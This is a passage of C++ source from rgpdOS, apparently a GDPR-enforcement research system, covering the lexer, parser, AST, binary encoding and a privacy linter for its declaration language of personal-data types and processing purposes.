    RGPD_ASSIGN_OR_RETURN(std::string purpose, r.GetString());
    ConsentSpec spec;
    RGPD_ASSIGN_OR_RETURN(std::uint8_t kind, r.GetU8());
    if (kind > static_cast<std::uint8_t>(membrane::ConsentKind::kAll)) {
      return Corruption("type decl: bad consent kind");
    }
    spec.kind = static_cast<membrane::ConsentKind>(kind);
    RGPD_ASSIGN_OR_RETURN(spec.view, r.GetString());
    decl.default_consents.emplace(std::move(purpose), std::move(spec));
  }
  RGPD_ASSIGN_OR_RETURN(std::uint64_t collection_count, r.GetVarint());
  for (std::uint64_t i = 0; i < collection_count; ++i) {
    membrane::CollectionInterface c;
    RGPD_ASSIGN_OR_RETURN(c.method, r.GetString());
    RGPD_ASSIGN_OR_RETURN(c.target, r.GetString());
    decl.collection.push_back(std::move(c));
  }
  RGPD_ASSIGN_OR_RETURN(std::uint8_t origin, r.GetU8());
  if (origin > static_cast<std::uint8_t>(membrane::Origin::kDerived)) {
    return Corruption("type decl: bad origin");
  }
  decl.origin = static_cast<membrane::Origin>(origin);
  RGPD_ASSIGN_OR_RETURN(decl.ttl, r.GetI64());
  RGPD_ASSIGN_OR_RETURN(std::uint8_t sensitivity, r.GetU8());
  if (sensitivity > static_cast<std::uint8_t>(membrane::Sensitivity::kHigh)) {
    return Corruption("type decl: bad sensitivity");
  }
  decl.sensitivity = static_cast<membrane::Sensitivity>(sensitivity);
  return decl;
}

Bytes EncodePurposeDecl(const PurposeDecl& decl) {
  ByteWriter w;
  w.PutString(decl.name);
  w.PutString(decl.input_type);
  w.PutString(decl.input_view);
  w.PutString(decl.output_type);
  w.PutString(decl.description);
  w.PutBool(decl.automated);
  return w.Take();
}

Result<PurposeDecl> DecodePurposeDecl(ByteSpan bytes) {
  ByteReader r(bytes);
  PurposeDecl decl;
  RGPD_ASSIGN_OR_RETURN(decl.name, r.GetString());
  RGPD_ASSIGN_OR_RETURN(decl.input_type, r.GetString());
  RGPD_ASSIGN_OR_RETURN(decl.input_view, r.GetString());
  RGPD_ASSIGN_OR_RETURN(decl.output_type, r.GetString());
  RGPD_ASSIGN_OR_RETURN(decl.description, r.GetString());
  // Purposes registered before the Art. 22 clause end here.
  if (r.remaining() > 0) {
    RGPD_ASSIGN_OR_RETURN(decl.automated, r.GetBool());
  }
  return decl;
}

}  // namespace rgpdos::dsl
