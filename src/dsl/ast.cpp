#include "dsl/ast.hpp"

namespace rgpdos::dsl {

Result<std::set<std::string>> TypeDecl::ViewFields(
    std::string_view view_name) const {
  if (view_name.empty() || view_name == "all") {
    std::set<std::string> all;
    for (const db::FieldDef& f : fields) all.insert(f.name);
    return all;
  }
  for (const ViewDecl& v : views) {
    if (v.name == view_name) {
      return std::set<std::string>(v.fields.begin(), v.fields.end());
    }
  }
  return NotFound("type '" + name + "' has no view '" +
                  std::string(view_name) + "'");
}

bool TypeDecl::HasView(std::string_view view_name) const {
  for (const ViewDecl& v : views) {
    if (v.name == view_name) return true;
  }
  return false;
}

db::Schema TypeDecl::ToSchema() const { return db::Schema(name, fields); }

membrane::Membrane TypeDecl::DefaultMembrane(std::uint64_t subject_id,
                                             TimeMicros now) const {
  membrane::Membrane m;
  m.subject_id = subject_id;
  m.type_name = name;
  m.origin = origin;
  m.sensitivity = sensitivity;
  m.created_at = now;
  m.ttl = ttl;
  for (const auto& [purpose, spec] : default_consents) {
    membrane::Consent consent;
    consent.kind = spec.kind;
    consent.view = spec.view;
    m.consents.emplace(purpose, std::move(consent));
  }
  m.collection = collection;
  return m;
}

Status TypeDecl::Validate() const {
  if (name.empty()) return InvalidArgument("type has no name");
  if (fields.empty()) {
    return InvalidArgument("type '" + name + "' declares no fields");
  }
  std::set<std::string> field_names;
  for (const db::FieldDef& f : fields) {
    if (!field_names.insert(f.name).second) {
      return InvalidArgument("type '" + name + "' declares field '" +
                             f.name + "' twice");
    }
  }
  std::set<std::string> view_names;
  for (const ViewDecl& v : views) {
    if (v.name == "all" || v.name == "none") {
      return InvalidArgument("view name '" + v.name + "' is reserved");
    }
    if (!view_names.insert(v.name).second) {
      return InvalidArgument("type '" + name + "' declares view '" + v.name +
                             "' twice");
    }
    if (v.fields.empty()) {
      return InvalidArgument("view '" + v.name + "' of type '" + name +
                             "' is empty");
    }
    for (const std::string& f : v.fields) {
      if (field_names.count(f) == 0) {
        return InvalidArgument("view '" + v.name +
                               "' references unknown field '" + f + "'");
      }
    }
  }
  for (const auto& [purpose, spec] : default_consents) {
    if (spec.kind == membrane::ConsentKind::kView &&
        view_names.count(spec.view) == 0) {
      return InvalidArgument("consent for purpose '" + purpose +
                             "' references unknown view '" + spec.view +
                             "'");
    }
  }
  return Status::Ok();
}

}  // namespace rgpdos::dsl
