// Recursive-descent parser for the declaration language.
//
// Grammar (paper Listing 1, extended with purpose declarations):
//
//   program     := (type_decl | purpose_decl)*
//   type_decl   := "type" IDENT "{" clause* "}"
//   clause      := fields | view | consent | collection
//                | "origin" ":" IDENT ";"
//                | "age" ":" NUMBER IDENT ";"        // 30D, 6M, 1Y, 90s...
//                | "sensitivity" ":" IDENT ";"       // low|medium|high
//   fields      := "fields" "{" field ("," field)* "}" ";"?
//   field       := IDENT ":" IDENT "?"?              // name : type
//   view        := "view" IDENT "{" IDENT ("," IDENT)* "}" ";"?
//   consent     := "consent" "{" centry ("," centry)* "}" ";"?
//   centry      := IDENT ":" ("all" | "none" | IDENT)
//   collection  := "collection" "{" centry2 ("," centry2)* "}" ";"?
//   centry2     := IDENT ":" IDENT
//   purpose_decl:= "purpose" IDENT "{" pclause* "}"
//   pclause     := "input" ":" IDENT ("." IDENT)? ";"
//                | "output" ":" IDENT ";"
//                | "description" ":" STRING ";"
//
// Trailing commas and optional semicolons after blocks are accepted,
// matching the loose style of the paper's listing.
#pragma once

#include "common/status.hpp"
#include "dsl/ast.hpp"

namespace rgpdos::dsl {

/// Parse and validate a program. Error messages carry line:column.
Result<Program> Parse(std::string_view source);

/// Convenience: parse a source expected to contain exactly one type.
Result<TypeDecl> ParseType(std::string_view source);

/// Convenience: parse a source expected to contain exactly one purpose.
Result<PurposeDecl> ParsePurpose(std::string_view source);

}  // namespace rgpdos::dsl
