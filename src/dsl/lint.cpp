#include "dsl/lint.hpp"

#include <array>

namespace rgpdos::dsl {

std::string_view LintRuleName(LintRule rule) {
  switch (rule) {
    case LintRule::kNoViews: return "no-views";
    case LintRule::kBroadConsent: return "broad-consent";
    case LintRule::kNoTtl: return "no-ttl";
    case LintRule::kUnboundedIdentifier: return "unbounded-identifier";
    case LintRule::kNoCollection: return "no-collection";
    case LintRule::kManyPurposes: return "many-purposes";
  }
  return "?";
}

namespace {
bool LooksLikeIdentifier(const std::string& field_name) {
  static constexpr std::array<std::string_view, 8> kIdentifierish = {
      "name", "email", "mail", "phone", "ssn", "iban", "address", "pwd"};
  for (std::string_view needle : kIdentifierish) {
    if (field_name.find(needle) != std::string::npos) return true;
  }
  return false;
}
}  // namespace

std::vector<LintWarning> LintType(const TypeDecl& decl) {
  std::vector<LintWarning> warnings;
  const auto warn = [&](LintRule rule, std::string detail) {
    warnings.push_back(LintWarning{rule, std::move(detail)});
  };

  if (decl.fields.size() > 1 && decl.views.empty()) {
    warn(LintRule::kNoViews,
         "type '" + decl.name + "' has " +
             std::to_string(decl.fields.size()) +
             " fields but declares no views: every consent exposes the "
             "whole record");
  }

  if (!decl.views.empty()) {
    for (const auto& [purpose, spec] : decl.default_consents) {
      if (spec.kind == membrane::ConsentKind::kAll) {
        warn(LintRule::kBroadConsent,
             "purpose '" + purpose +
                 "' defaults to `all` although narrower views exist");
      }
    }
  }

  if (decl.sensitivity == membrane::Sensitivity::kHigh && decl.ttl == 0) {
    warn(LintRule::kNoTtl,
         "high-sensitivity type '" + decl.name +
             "' has no `age:` clause: records never expire");
  }

  for (const db::FieldDef& field : decl.fields) {
    if (field.type == db::ValueType::kString &&
        LooksLikeIdentifier(field.name) && !field.constraints.max_len) {
      warn(LintRule::kUnboundedIdentifier,
           "identifier-like field '" + field.name +
               "' has no max_len bound");
    }
  }

  if (decl.origin == membrane::Origin::kSubject &&
      decl.collection.empty()) {
    warn(LintRule::kNoCollection,
         "origin is `subject` but no collection interface is declared: "
         "how does this PD lawfully enter the system?");
  }

  if (decl.default_consents.size() > 8) {
    warn(LintRule::kManyPurposes,
         "type '" + decl.name + "' pre-authorises " +
             std::to_string(decl.default_consents.size()) +
             " purposes by default (purpose creep)");
  }
  return warnings;
}

}  // namespace rgpdos::dsl
