// Privacy-by-design linter (GDPR Art. 25; paper §1: "Using rgpdOS a data
// operator is demonstrating a conscious effort towards GDPR compliance
// like imposed by its 25th article").
//
// Structural heuristics over a TypeDecl that flag declarations which are
// legal but privacy-hostile. Warnings, not errors: the sysadmin decides.
#pragma once

#include <string>
#include <vector>

#include "dsl/ast.hpp"

namespace rgpdos::dsl {

enum class LintRule : std::uint8_t {
  kNoViews = 0,        ///< multi-field type with no views: every consent
                       ///< is all-or-nothing (data minimisation missed)
  kBroadConsent,       ///< default consent `all` although views exist
  kNoTtl,              ///< high-sensitivity type without an `age:` clause
                       ///< (storage limitation)
  kUnboundedIdentifier,///< identifier-ish string field without max_len
  kNoCollection,       ///< origin subject but no collection interface
  kManyPurposes,       ///< more than 8 default purposes (purpose creep)
};

std::string_view LintRuleName(LintRule rule);

struct LintWarning {
  LintRule rule;
  std::string detail;
};

/// Run every rule; returns the warnings in declaration order.
std::vector<LintWarning> LintType(const TypeDecl& decl);

}  // namespace rgpdos::dsl
