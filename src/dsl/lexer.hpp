// Lexer for the rgpdOS declaration language (paper Listing 1): personal
// data type declarations with fields, views, default consents, collection
// interfaces, origin, time-to-live and sensitivity — plus the purpose
// declaration language used by ps_register.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "common/status.hpp"

namespace rgpdos::dsl {

enum class TokenKind : std::uint8_t {
  kIdent,    ///< identifiers, keywords, and path-ish values (a.b, x.html)
  kNumber,   ///< decimal integer literal
  kString,   ///< double-quoted string
  kLBrace,   ///< {
  kRBrace,   ///< }
  kColon,    ///< :
  kComma,    ///< ,
  kSemicolon,///< ;
  kEof,
};

std::string_view TokenKindName(TokenKind kind);

struct Token {
  TokenKind kind = TokenKind::kEof;
  std::string text;
  int line = 0;
  int column = 0;
};

/// Tokenize a source buffer. Supports // line and /* block */ comments.
/// Fails with InvalidArgument on unknown characters or unterminated
/// strings/comments, reporting line:column.
Result<std::vector<Token>> Tokenize(std::string_view source);

}  // namespace rgpdos::dsl
