#include "dsl/lexer.hpp"

namespace rgpdos::dsl {

std::string_view TokenKindName(TokenKind kind) {
  switch (kind) {
    case TokenKind::kIdent: return "identifier";
    case TokenKind::kNumber: return "number";
    case TokenKind::kString: return "string";
    case TokenKind::kLBrace: return "'{'";
    case TokenKind::kRBrace: return "'}'";
    case TokenKind::kColon: return "':'";
    case TokenKind::kComma: return "','";
    case TokenKind::kSemicolon: return "';'";
    case TokenKind::kEof: return "end of input";
  }
  return "?";
}

namespace {

bool IsIdentStart(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' ||
         c == '/';
}

bool IsIdentBody(char c) {
  // Dots, slashes and dashes let collection targets like
  // "user_form.html" or "scripts/fetch_data.py" lex as single tokens.
  return IsIdentStart(c) || (c >= '0' && c <= '9') || c == '.' || c == '-';
}

std::string At(int line, int column) {
  return " at " + std::to_string(line) + ":" + std::to_string(column);
}

}  // namespace

Result<std::vector<Token>> Tokenize(std::string_view source) {
  std::vector<Token> tokens;
  int line = 1;
  int column = 1;
  std::size_t i = 0;

  const auto advance = [&](std::size_t n = 1) {
    for (std::size_t k = 0; k < n && i < source.size(); ++k) {
      if (source[i] == '\n') {
        ++line;
        column = 1;
      } else {
        ++column;
      }
      ++i;
    }
  };

  while (i < source.size()) {
    const char c = source[i];
    if (c == ' ' || c == '\t' || c == '\r' || c == '\n') {
      advance();
      continue;
    }
    // Comments.
    if (c == '/' && i + 1 < source.size() && source[i + 1] == '/') {
      while (i < source.size() && source[i] != '\n') advance();
      continue;
    }
    if (c == '/' && i + 1 < source.size() && source[i + 1] == '*') {
      const int start_line = line;
      const int start_col = column;
      advance(2);
      bool closed = false;
      while (i + 1 < source.size()) {
        if (source[i] == '*' && source[i + 1] == '/') {
          advance(2);
          closed = true;
          break;
        }
        advance();
      }
      if (!closed) {
        return InvalidArgument("unterminated block comment" +
                               At(start_line, start_col));
      }
      continue;
    }

    Token token;
    token.line = line;
    token.column = column;

    switch (c) {
      case '{': token.kind = TokenKind::kLBrace; token.text = "{"; advance(); break;
      case '}': token.kind = TokenKind::kRBrace; token.text = "}"; advance(); break;
      case ':': token.kind = TokenKind::kColon; token.text = ":"; advance(); break;
      case ',': token.kind = TokenKind::kComma; token.text = ","; advance(); break;
      case ';': token.kind = TokenKind::kSemicolon; token.text = ";"; advance(); break;
      case '"': {
        advance();
        std::string text;
        bool closed = false;
        while (i < source.size()) {
          if (source[i] == '"') {
            advance();
            closed = true;
            break;
          }
          if (source[i] == '\\' && i + 1 < source.size()) {
            advance();
            switch (source[i]) {
              case 'n': text.push_back('\n'); break;
              case 't': text.push_back('\t'); break;
              default: text.push_back(source[i]); break;
            }
            advance();
            continue;
          }
          text.push_back(source[i]);
          advance();
        }
        if (!closed) {
          return InvalidArgument("unterminated string" +
                                 At(token.line, token.column));
        }
        token.kind = TokenKind::kString;
        token.text = std::move(text);
        break;
      }
      default: {
        if (c >= '0' && c <= '9') {
          std::string text;
          while (i < source.size() && source[i] >= '0' && source[i] <= '9') {
            text.push_back(source[i]);
            advance();
          }
          token.kind = TokenKind::kNumber;
          token.text = std::move(text);
        } else if (IsIdentStart(c)) {
          std::string text;
          while (i < source.size() && IsIdentBody(source[i])) {
            text.push_back(source[i]);
            advance();
          }
          token.kind = TokenKind::kIdent;
          token.text = std::move(text);
        } else {
          return InvalidArgument(std::string("unexpected character '") + c +
                                 "'" + At(line, column));
        }
        break;
      }
    }
    tokens.push_back(std::move(token));
  }

  Token eof;
  eof.kind = TokenKind::kEof;
  eof.line = line;
  eof.column = column;
  tokens.push_back(std::move(eof));
  return tokens;
}

}  // namespace rgpdos::dsl
