// AST of the declaration language, plus conversions into the runtime
// vocabulary (db::Schema, membrane::Membrane).
#pragma once

#include <map>
#include <set>
#include <string>
#include <vector>

#include "common/clock.hpp"
#include "db/schema.hpp"
#include "membrane/membrane.hpp"

namespace rgpdos::dsl {

/// `view v_ano { year_of_birthdate };`
struct ViewDecl {
  std::string name;
  std::vector<std::string> fields;
};

/// One entry of the `consent { ... }` block: all | none | <view name>.
struct ConsentSpec {
  membrane::ConsentKind kind = membrane::ConsentKind::kNone;
  std::string view;  ///< set iff kind == kView
};

/// A full `type` declaration (paper Listing 1).
struct TypeDecl {
  std::string name;
  std::vector<db::FieldDef> fields;
  std::vector<ViewDecl> views;
  /// Default consents applied when PD of this type is collected; purposes
  /// listed here are backed by a legitimate basis chosen by the operator.
  std::map<std::string, ConsentSpec> default_consents;
  std::vector<membrane::CollectionInterface> collection;
  membrane::Origin origin = membrane::Origin::kSubject;
  /// Parsed `age:` clause; 0 if absent (no expiry).
  TimeMicros ttl = 0;
  membrane::Sensitivity sensitivity = membrane::Sensitivity::kLow;

  /// Fields of a view by name; "all" is implicit (every field).
  [[nodiscard]] Result<std::set<std::string>> ViewFields(
      std::string_view view_name) const;
  [[nodiscard]] bool HasView(std::string_view view_name) const;

  /// Schema for DBFS storage.
  [[nodiscard]] db::Schema ToSchema() const;

  /// Default membrane for a fresh record of this type, per the paper:
  /// "The consent keyword indicates the default consent to apply when
  /// data of this type is created (collected)."
  [[nodiscard]] membrane::Membrane DefaultMembrane(std::uint64_t subject_id,
                                                   TimeMicros now) const;

  /// Structural validation: unique field/view names, views referencing
  /// declared fields, consents referencing declared views.
  [[nodiscard]] Status Validate() const;
};

/// A purpose declaration — the "very high level language" of the paper's
/// programming model, normally written by the project manager:
///
///   purpose purpose3 {
///     input: user.v_ano;
///     output: age;
///     description: "compute the age of a user";
///   }
struct PurposeDecl {
  std::string name;
  std::string input_type;
  /// View of the input the purpose claims to need; empty = whole type.
  std::string input_view;
  /// Type produced, empty if the purpose yields only non-personal data.
  std::string output_type;
  std::string description;
  /// Art. 22: the purpose makes decisions based solely on automated
  /// processing; membranes carrying the opt-out bit deny it.
  bool automated = false;
};

/// Result of parsing a source file: any mix of type and purpose decls.
struct Program {
  std::vector<TypeDecl> types;
  std::vector<PurposeDecl> purposes;
};

}  // namespace rgpdos::dsl
