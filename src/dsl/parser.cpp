#include "dsl/parser.hpp"

#include "dsl/lexer.hpp"

namespace rgpdos::dsl {

namespace {

class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : tokens_(std::move(tokens)) {}

  Result<Program> ParseProgram() {
    Program program;
    while (!AtEof()) {
      const Token& t = Peek();
      if (t.kind == TokenKind::kIdent && t.text == "type") {
        RGPD_ASSIGN_OR_RETURN(TypeDecl decl, ParseTypeDecl());
        RGPD_RETURN_IF_ERROR(decl.Validate());
        program.types.push_back(std::move(decl));
      } else if (t.kind == TokenKind::kIdent && t.text == "purpose") {
        RGPD_ASSIGN_OR_RETURN(PurposeDecl decl, ParsePurposeDecl());
        program.purposes.push_back(std::move(decl));
      } else {
        return Error("expected 'type' or 'purpose'", t);
      }
    }
    return program;
  }

 private:
  [[nodiscard]] const Token& Peek() const { return tokens_[pos_]; }
  [[nodiscard]] bool AtEof() const {
    return Peek().kind == TokenKind::kEof;
  }
  const Token& Take() { return tokens_[pos_++]; }

  static Status Error(const std::string& message, const Token& token) {
    return InvalidArgument(message + " at " + std::to_string(token.line) +
                           ":" + std::to_string(token.column) + " (got " +
                           (token.kind == TokenKind::kEof
                                ? std::string("end of input")
                                : "'" + token.text + "'") +
                           ")");
  }

  Result<Token> Expect(TokenKind kind) {
    if (Peek().kind != kind) {
      return Error("expected " + std::string(TokenKindName(kind)), Peek());
    }
    return Take();
  }

  Result<Token> ExpectIdent(std::string_view text) {
    if (Peek().kind != TokenKind::kIdent || Peek().text != text) {
      return Error("expected '" + std::string(text) + "'", Peek());
    }
    return Take();
  }

  bool Accept(TokenKind kind) {
    if (Peek().kind == kind) {
      ++pos_;
      return true;
    }
    return false;
  }

  Result<TypeDecl> ParseTypeDecl() {
    RGPD_RETURN_IF_ERROR(ExpectIdent("type").status());
    RGPD_ASSIGN_OR_RETURN(Token name, Expect(TokenKind::kIdent));
    TypeDecl decl;
    decl.name = name.text;
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      if (Peek().kind != TokenKind::kIdent) {
        return Error("expected a type clause", Peek());
      }
      const std::string clause = Peek().text;
      if (clause == "fields") {
        RGPD_RETURN_IF_ERROR(ParseFields(decl));
      } else if (clause == "view") {
        RGPD_RETURN_IF_ERROR(ParseView(decl));
      } else if (clause == "consent") {
        RGPD_RETURN_IF_ERROR(ParseConsent(decl));
      } else if (clause == "collection") {
        RGPD_RETURN_IF_ERROR(ParseCollection(decl));
      } else if (clause == "origin") {
        RGPD_RETURN_IF_ERROR(ParseOrigin(decl));
      } else if (clause == "age") {
        RGPD_RETURN_IF_ERROR(ParseAge(decl));
      } else if (clause == "sensitivity") {
        RGPD_RETURN_IF_ERROR(ParseSensitivity(decl));
      } else {
        return Error("unknown type clause '" + clause + "'", Peek());
      }
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    return decl;
  }

  Status ParseFields(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("fields").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      RGPD_ASSIGN_OR_RETURN(Token field_name, Expect(TokenKind::kIdent));
      RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
      RGPD_ASSIGN_OR_RETURN(Token type_name, Expect(TokenKind::kIdent));
      db::FieldDef field;
      field.name = field_name.text;
      std::string base = type_name.text;
      // `string?` lexes as one ident only if '?' were an ident char; it
      // is not, so nullable is expressed as a `nullable` suffix keyword.
      // Optional suffix keywords: `nullable` and the Art. 5(1)(d)
      // accuracy constraints `min N`, `max N`, `max_len N`, `not_empty`.
      for (;;) {
        if (Peek().kind != TokenKind::kIdent) break;
        const std::string& kw = Peek().text;
        if (kw == "nullable") {
          Take();
          field.nullable = true;
        } else if (kw == "min" || kw == "max" || kw == "max_len") {
          Take();
          bool negative = false;
          if (Peek().kind == TokenKind::kIdent && Peek().text == "-") {
            // '-' is not an ident start; negatives arrive as one token
            // only via this fallback — normally unused.
            Take();
            negative = true;
          }
          RGPD_ASSIGN_OR_RETURN(Token number, Expect(TokenKind::kNumber));
          const std::int64_t v =
              (negative ? -1 : 1) * std::stoll(number.text);
          if (kw == "min") {
            field.constraints.min_value = v;
          } else if (kw == "max") {
            field.constraints.max_value = v;
          } else {
            field.constraints.max_len = static_cast<std::uint64_t>(v);
          }
        } else if (kw == "not_empty") {
          Take();
          field.constraints.not_empty = true;
        } else {
          break;
        }
      }
      auto value_type = db::ValueTypeFromName(base);
      if (!value_type.ok()) return Error(value_type.status().message(),
                                         type_name);
      field.type = *value_type;
      decl.fields.push_back(std::move(field));
      if (!Accept(TokenKind::kComma)) break;
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    return Status::Ok();
  }

  Status ParseView(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("view").status());
    RGPD_ASSIGN_OR_RETURN(Token name, Expect(TokenKind::kIdent));
    ViewDecl view;
    view.name = name.text;
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      RGPD_ASSIGN_OR_RETURN(Token field, Expect(TokenKind::kIdent));
      view.fields.push_back(field.text);
      if (!Accept(TokenKind::kComma)) break;
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    decl.views.push_back(std::move(view));
    return Status::Ok();
  }

  Status ParseConsent(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("consent").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      RGPD_ASSIGN_OR_RETURN(Token purpose, Expect(TokenKind::kIdent));
      RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
      RGPD_ASSIGN_OR_RETURN(Token scope, Expect(TokenKind::kIdent));
      ConsentSpec spec;
      if (scope.text == "all") {
        spec.kind = membrane::ConsentKind::kAll;
      } else if (scope.text == "none") {
        spec.kind = membrane::ConsentKind::kNone;
      } else {
        spec.kind = membrane::ConsentKind::kView;
        spec.view = scope.text;
      }
      if (!decl.default_consents.emplace(purpose.text, spec).second) {
        return Error("duplicate consent for purpose '" + purpose.text + "'",
                     purpose);
      }
      if (!Accept(TokenKind::kComma)) break;
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    return Status::Ok();
  }

  Status ParseCollection(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("collection").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      RGPD_ASSIGN_OR_RETURN(Token method, Expect(TokenKind::kIdent));
      RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
      if (Peek().kind != TokenKind::kIdent &&
          Peek().kind != TokenKind::kString) {
        return Error("expected a collection target", Peek());
      }
      const Token target = Take();
      decl.collection.push_back(
          membrane::CollectionInterface{method.text, target.text});
      if (!Accept(TokenKind::kComma)) break;
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    return Status::Ok();
  }

  Status ParseOrigin(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("origin").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
    RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kIdent));
    if (value.text == "subject") {
      decl.origin = membrane::Origin::kSubject;
    } else if (value.text == "sysadmin") {
      decl.origin = membrane::Origin::kSysadmin;
    } else if (value.text == "third_party") {
      decl.origin = membrane::Origin::kThirdParty;
    } else {
      return Error("unknown origin '" + value.text + "'", value);
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kSemicolon).status());
    return Status::Ok();
  }

  Status ParseAge(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("age").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
    RGPD_ASSIGN_OR_RETURN(Token amount, Expect(TokenKind::kNumber));
    RGPD_ASSIGN_OR_RETURN(Token unit, Expect(TokenKind::kIdent));
    const std::int64_t n = std::stoll(amount.text);
    TimeMicros per_unit = 0;
    if (unit.text == "s") {
      per_unit = kMicrosPerSecond;
    } else if (unit.text == "m") {
      per_unit = 60 * kMicrosPerSecond;
    } else if (unit.text == "h") {
      per_unit = 3600 * kMicrosPerSecond;
    } else if (unit.text == "D") {
      per_unit = kMicrosPerDay;
    } else if (unit.text == "M") {
      per_unit = 30 * kMicrosPerDay;
    } else if (unit.text == "Y") {
      per_unit = kMicrosPerYear;
    } else {
      return Error("unknown duration unit '" + unit.text +
                       "' (use s, m, h, D, M, Y)",
                   unit);
    }
    decl.ttl = n * per_unit;
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kSemicolon).status());
    return Status::Ok();
  }

  Status ParseSensitivity(TypeDecl& decl) {
    RGPD_RETURN_IF_ERROR(ExpectIdent("sensitivity").status());
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
    RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kIdent));
    // The paper's listing spells it "hight"; accept that spelling too.
    if (value.text == "low") {
      decl.sensitivity = membrane::Sensitivity::kLow;
    } else if (value.text == "medium") {
      decl.sensitivity = membrane::Sensitivity::kMedium;
    } else if (value.text == "high" || value.text == "hight") {
      decl.sensitivity = membrane::Sensitivity::kHigh;
    } else {
      return Error("unknown sensitivity '" + value.text + "'", value);
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kSemicolon).status());
    return Status::Ok();
  }

  Result<PurposeDecl> ParsePurposeDecl() {
    RGPD_RETURN_IF_ERROR(ExpectIdent("purpose").status());
    RGPD_ASSIGN_OR_RETURN(Token name, Expect(TokenKind::kIdent));
    PurposeDecl decl;
    decl.name = name.text;
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kLBrace).status());
    while (Peek().kind != TokenKind::kRBrace) {
      RGPD_ASSIGN_OR_RETURN(Token clause, Expect(TokenKind::kIdent));
      RGPD_RETURN_IF_ERROR(Expect(TokenKind::kColon).status());
      if (clause.text == "input") {
        RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kIdent));
        // "user.v_ano" — the dot is part of the identifier token.
        const std::size_t dot = value.text.find('.');
        if (dot == std::string::npos) {
          decl.input_type = value.text;
        } else {
          decl.input_type = value.text.substr(0, dot);
          decl.input_view = value.text.substr(dot + 1);
        }
      } else if (clause.text == "output") {
        RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kIdent));
        decl.output_type = value.text;
      } else if (clause.text == "description") {
        RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kString));
        decl.description = value.text;
      } else if (clause.text == "automated") {
        RGPD_ASSIGN_OR_RETURN(Token value, Expect(TokenKind::kIdent));
        if (value.text == "true") {
          decl.automated = true;
        } else if (value.text == "false") {
          decl.automated = false;
        } else {
          return Error("automated clause expects true or false, got '" +
                           value.text + "'",
                       value);
        }
      } else {
        return Error("unknown purpose clause '" + clause.text + "'", clause);
      }
      RGPD_RETURN_IF_ERROR(Expect(TokenKind::kSemicolon).status());
    }
    RGPD_RETURN_IF_ERROR(Expect(TokenKind::kRBrace).status());
    Accept(TokenKind::kSemicolon);
    if (decl.input_type.empty()) {
      return Error("purpose '" + decl.name + "' declares no input", name);
    }
    return decl;
  }

  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
};

}  // namespace

Result<Program> Parse(std::string_view source) {
  RGPD_ASSIGN_OR_RETURN(std::vector<Token> tokens, Tokenize(source));
  Parser parser(std::move(tokens));
  return parser.ParseProgram();
}

Result<TypeDecl> ParseType(std::string_view source) {
  RGPD_ASSIGN_OR_RETURN(Program program, Parse(source));
  if (program.types.size() != 1 || !program.purposes.empty()) {
    return InvalidArgument("expected exactly one type declaration");
  }
  return std::move(program.types.front());
}

Result<PurposeDecl> ParsePurpose(std::string_view source) {
  RGPD_ASSIGN_OR_RETURN(Program program, Parse(source));
  if (program.purposes.size() != 1 || !program.types.empty()) {
    return InvalidArgument("expected exactly one purpose declaration");
  }
  return std::move(program.purposes.front());
}

}  // namespace rgpdos::dsl
