// Status / Result: the error-handling vocabulary of the whole code base.
//
// rgpdOS components signal expected failures (consent denied, TTL expired,
// access blocked by the sentinel, ...) through `Status` rather than
// exceptions: a denied PD access is a *normal* outcome that callers must
// handle, and several codes (kConsentDenied, kExpired, kAccessBlocked)
// carry GDPR meaning that benchmarks and audit trails count.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>

namespace rgpdos {

/// Canonical error space. Codes specific to GDPR enforcement are grouped
/// at the end; generic infrastructure codes mirror POSIX-ish semantics.
enum class StatusCode : std::uint8_t {
  kOk = 0,
  kNotFound,
  kAlreadyExists,
  kInvalidArgument,
  kPermissionDenied,
